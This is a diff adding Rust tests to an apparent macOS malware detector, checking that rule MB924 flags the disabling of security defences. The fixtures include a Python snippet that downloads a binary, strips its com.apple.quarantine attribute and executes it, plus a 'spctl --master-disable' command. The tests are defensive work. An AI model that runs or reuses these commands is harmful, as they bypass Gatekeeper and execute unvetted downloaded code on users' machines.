@@ -134,3 +134,23 @@ fn a_few_named_keys_polled_are_no_keylogging() {
     assert!(!rules(&a).contains(&"MB212"), "{:?}", a.findings);
     assert!(a.verdict < Verdict::High, "{:?}", a.findings);
 }
+
+/// The quarantine mark taken off a downloaded program before it is run:
+/// Gatekeeper never checks it (74bcfa0: LOW).
+#[test]
+fn quarantine_removed_from_a_download_is_a_defence_disabled() {
+    let strip = "import subprocess, urllib.request\nurllib.request.urlretrieve('https://dl.example.net/helper', '/tmp/helper')\nfor a in ('com.apple.quarantine',):\n    subprocess.run(['xattr', '-d', a, '/tmp/helper'])\nsubprocess.Popen(['/tmp/helper'])\n";
+    let a = run(strip);
+    assert!(rules(&a).contains(&"MB924"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    assert!(rules(&run("import os\nos.system('spctl --master-disable')\n")).contains(&"MB924"));
+}
+
+/// Attributes listed, or a different attribute removed, disable nothing.
+#[test]
+fn extended_attributes_listed_or_other_ones_removed_disable_nothing() {
+    let list = "import subprocess, sys\nprint(subprocess.run(['xattr', '-l', sys.argv[1]], capture_output=True).stdout)\nsubprocess.run(['xattr', '-d', 'com.apple.metadata:kMDItemWhereFroms', sys.argv[1]])\n";
+    let a = run(list);
+    assert!(!rules(&a).contains(&"MB924"), "{:?}", a.findings);
+    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
+}
